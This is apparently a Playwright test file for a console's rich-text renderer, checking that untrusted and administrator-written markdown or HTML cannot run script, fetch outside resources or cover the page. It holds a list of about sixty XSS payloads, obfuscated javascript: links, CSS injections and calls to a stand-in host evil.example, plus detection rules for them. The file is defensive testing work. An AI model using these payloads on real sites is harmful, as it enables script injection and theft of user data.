/** S8: nothing that models, providers or administrators write acts, calls elsewhere unasked, or covers the page. */
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { launchBrowser } from './browser.ts';

interface Context {
  readonly browser: Browser;
  readonly page: Page;
  /** Addresses that the page fetched. */
  readonly fetched: string[];
}

const richText = suite<Context>('rich text');
const entry = fileURLToPath(new URL('../support/rich-text-page.tsx', import.meta.url));

const attacks = [
  '<script>attacked()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=attacked()>',
  '<img src="https://evil.example/p.png" onerror="attacked()" onload="attacked()" style="position:fixed">',
  '<svg onload=attacked()><script>attacked()</script><a xlink:href="javascript:attacked()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=attacked()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  '<iframe src="javascript:attacked()"></iframe><iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<object data="javascript:attacked()"></object><embed src="javascript:attacked()">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:attacked()">go</button></form>',
  '<a href="javascript:attacked()" id=click>x</a>',
  '<a href="JaVaScRiPt&colon;attacked()" id=click>x</a>',
  '<a href=" &#14; javascript:attacked()" id=click>x</a>',
  '<a href="java\nscript:attacked()">x</a>',
  '<a href="java&#x09;script:attacked()">x</a>',
  '<a href="data:text/html,<script>attacked()</script>">x</a>',
  '<a href="vbscript:attacked()">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/\\evil.example/x">x</a>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>body{display:none}@import url(https://evil.example/y.css)</style>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<div style="background:u\\72l(https://evil.example/c.png)">x</div>',
  '<div style="back/**/ground:u/**/rl(https://evil.example/d.png)">x</div>',
  '<div style="list-style-image:image-set(\'https://evil.example/e.png\' 1x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<div style="posit\\69on:fixed;top:0">cover</div>',
  '<div style="color:red;;position : FIXED !important">cover</div>',
  '<div style="width:expression(attacked())">x</div>',
  '<div style="margin-top:-9999px">x</div>',
  '<div style="transform:translate(-50vw,-50vh) scale(99)">x</div>',
  '<div style="-webkit-transform:translate(-50vw,-50vh) scale(99)">x</div>',
  '<div id="root" class="mantine-Modal-root" name="x" tabindex=1 autofocus onfocus=attacked() contenteditable>x</div>',
  '<details open ontoggle=attacked()><summary>x</summary>y</details>',
  '<video src=x onerror=attacked() autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<marquee onstart=attacked()>x</marquee>',
  '<template><img src=x onerror=attacked()></template>',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=attacked()>">',
  '<a href="https://ok.example" target="_top" rel="opener">x</a>',
  '[x](javascript:attacked())',
  '[x](JAVASCRIPT:attacked())',
  '[x](  javascript&colon;attacked())',
  '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+)',
  '[x](vbscript:attacked())',
  '[x](//evil.example)',
  '[x](/api/user/logout)',
  '[x](https://bank.example@evil.example/)',
  '![x](javascript:attacked())',
  '![x](data:text/html,attacked)',
  '![pixel](https://evil.example/pixel.png)',
  '![x](https://evil.example/y.png"onerror="attacked())',
  '<javascript:attacked()>',
  '[a]: javascript:attacked()\n\n[a]',
  '```html\n<script>attacked()</script>\n```',
  '`<img src=x onerror=attacked()>`',
  '<div>\n\n**bold** <img src=x onerror=attacked()>\n\n</div>',
  '&lt;script&gt;attacked()&lt;/script&gt;',
  '<!-- <img src=x onerror=attacked()> --><![CDATA[<script>attacked()</script>]]>',
  '\u0000<scr\u0000ipt>attacked()</scr\u0000ipt>',
  '| a |\n|---|\n| <img src=x onerror=attacked()> |',
  '[^1]\n\n[^1]: <script>attacked()</script>',
];

richText.before(async (context) => {
  const built = await build({
    entryPoints: [entry],
    bundle: true,
    write: false,
    format: 'iife',
    jsx: 'automatic',
    outdir: '/',
    define: { 'process.env.NODE_ENV': '"production"' },
    logLevel: 'silent',
  });
  const [script = '', style = ''] = ['.js', '.css'].map(
    (ending) => built.outputFiles.find(({ path }) => path.endsWith(ending))?.text,
  );
  const browser = await launchBrowser();
  const page = await browser.newPage();
  const fetched: string[] = [];
  await page.route('**/*', (route) => {
    const address = route.request().url();
    if (address === 'https://console.example/') {
      return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>t</title><body></body>' });
    }
    fetched.push(address);
    return route.abort();
  });
  await page.goto('https://console.example/');
  await page.evaluate('globalThis.attacks = 0; globalThis.attacked = () => { globalThis.attacks += 1; }');
  await page.addStyleTag({ content: style });
  await page.addScriptTag({ content: script });
  Object.assign(context, { browser, page, fetched });
});

richText.after(async ({ browser }) => {
  await browser?.close();
});

/** What is wrong with what was drawn; read in the page. */
function faults(): string[] {
  const found: string[] = [];
  const forbidden =
    'script,style,iframe,object,embed,form,base,meta,link,svg,math,video,audio,textarea,template,dialog';
  for (const element of document.body.querySelectorAll('*')) {
    const isIcon = element.closest('button') !== null;
    if (!isIcon && element.matches(forbidden)) found.push(`element ${element.localName}`);
    if (element.localName === 'input' && element.getAttribute('type') !== 'checkbox') found.push('an input');
    for (const { name, value } of element.attributes) {
      if (
        name.startsWith('on') ||
        name === 'srcdoc' ||
        (name === 'id' && !value.startsWith('user-content-')) ||
        name === 'name'
      )
        found.push(`${name}=${value}`);
      if (/^(?:javascript|vbscript|data:text)/i.test(value.replaceAll(/[\s\p{Cc}]/gu, '')))
        found.push(`${name}=${value}`);
    }
    const style = element instanceof HTMLElement ? element.style : undefined;
    if (style && !isIcon) {
      if (style.position !== '' || style.zIndex !== '' || style.transform !== '') found.push(`style ${style.cssText}`);
      if (/url\(|image-set|expression/i.test(style.cssText)) found.push(`style ${style.cssText}`);
    }
    if (element instanceof HTMLAnchorElement && element.hasAttribute('href')) {
      const isOutside = element.origin !== location.origin && element.protocol.startsWith('http');
      if (isOutside && !element.rel.includes('noopener')) found.push('a link that hands over its opener');
      if (isOutside && element.target !== '_blank') found.push('a link that replaces the console');
      if (!['http:', 'https:', 'mailto:', 'tel:'].includes(element.protocol)) found.push(`link ${element.href}`);
      if (element.username !== '') found.push(`link ${element.href}`);
    }
  }
  return found;
}

for (const kind of ['untrusted', 'admin'] as const) {
  richText(`${kind}: no attack of the corpus gets through`, async ({ page, fetched }) => {
    const failed: string[] = [];
    for (const text of attacks) {
      fetched.length = 0;
      await page.evaluate(`drawRichText(${JSON.stringify(kind)}, ${JSON.stringify(text)})`);
      const wrong: string[] = await page.evaluate(`(${faults})()`);
      // Links that lie in what was written are pressed; they open nothing but other sites.
      await page.evaluate('for (const link of document.querySelectorAll("a[id=click]")) link.click()');
      if (Number(await page.evaluate('globalThis.attacks')) > 0) wrong.push('it ran');
      // Administrators may show images; those of style attributes are none.
      const isImage = (address: string) => kind === 'admin' && /\/(?:x|1|p\.png|pixel\.png|y\.png.*)$/.test(address);
      wrong.push(...fetched.filter((address) => !isImage(address)).map((address) => `fetched ${address}`));
      await page.evaluate('globalThis.attacks = 0');
      if (wrong.length > 0) failed.push(`${text}\n    ${wrong.join('\n    ')}`);
    }
    assert.equal(failed, []);
  });
}

richText('untrusted: HTML is text, links tell their host, own addresses are none', async ({ page }) => {
  const drawn = async (text: string): Promise<string> =>
    String(await page.evaluate(`drawRichText('untrusted', ${JSON.stringify(text)})`));
  assert.match(await drawn('<b>x</b>'), '&lt;b&gt;x&lt;/b&gt;');
  assert.match(await drawn('[x](https://a.example/y)'), /href="https:\/\/a\.example\/y".*\(a\.example\)/);
  for (const text of [
    'https://bank.example/?a.example',
    'bank.example/a.example',
    'a.example.bank.example',
    'a.example:80',
  ]) {
    assert.match(await drawn(`[${text}](https://a.example/y)`), /\(a\.example\)/, text);
  }
  assert.not.match(await drawn('https://a.example/y?z www.a.example'), /\((?:www\.)?a\.example\)/);
  assert.not.match(await drawn('[x](/api/user/logout)'), 'href');
  assert.not.match(await drawn('![x](https://a.example/y.png)'), '<img');
});

richText(
  'untrusted: an image that was asked for stands for no other that comes in its place',
  async ({ page, fetched }) => {
    await page.evaluate("drawRichText('untrusted', '![a](https://a.example/one.png)')");
    fetched.length = 0;
    await page.locator('button').click();
    await page.locator('img').waitFor({ state: 'attached' });
    await page.evaluate("redrawRichText('untrusted', '![b](https://b.example/two.png)')");
    assert.is(await page.locator('img').count(), 0);
    assert.equal(fetched, ['https://a.example/one.png']);
  },
);

richText('admin: nothing is painted beyond the text', async ({ page }) => {
  const below = async (text: string) => {
    await page.evaluate(`drawRichText('admin', ${JSON.stringify(text)})`);
    return page.screenshot({ clip: { x: 0, y: 300, width: 600, height: 200 } });
  };
  const blank = await below('plain');
  for (const style of [
    'outline: 100vmax solid red',
    'box-shadow: 0 0 0 100vmax red',
    'filter: drop-shadow(0 200px red)',
  ]) {
    assert.ok(blank.equals(await below(`<div style="${style}">x</div>`)), style);
  }
});

richText('admin: what is harmless stays', async ({ page }) => {
  const html = String(
    await page.evaluate(
      `drawRichText('admin', ${JSON.stringify(
        '# T\n\n<div style="color: red; text-align: center">\n\n**b** [x](/pricing)\n\n</div>\n\n<table><tr><td colspan="2">c</td></tr></table>\n\n<details open><summary>s</summary>d</details>\n\n<img src="https://a.example/i.png" width="20">',
      )})`,
    ),
  );
  for (const part of [
    '<h2>T</h2>',
    'color: red',
    'text-align: center',
    '<strong>b</strong>',
    'href="/pricing"',
    'colspan="2"',
    '<details open',
    'width="20"',
  ]) {
    assert.match(html, part);
  }
});

for (const kind of ['admin', 'untrusted'] as const) {
  richText(`${kind}: a wide table scrolls by itself, with its words whole`, async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    const row = (cell: string) => `|${` ${cell} |`.repeat(9)}\n`;
    const text = `${row('head')}${row('---')}${row('wonderful')}`;
    await page.evaluate(`drawRichText('${kind}', ${JSON.stringify(text)})`);
    const [pageWidth, lines] = await page.evaluate(() => {
      const words = document.createRange();
      words.selectNodeContents(document.querySelector('td') ?? document.body);
      return [document.documentElement.scrollWidth, words.getClientRects().length];
    });
    assert.equal([pageWidth, lines], [390, 1]);
  });
}

richText('admin: the boxes of a task list stay what they are', async ({ page }) => {
  const html = String(await page.evaluate("drawRichText('admin', '- [ ] open\\n- [x] done')"));
  assert.match(html, /☐ open(?:.|\n)*☑ done/);
});

richText.run();
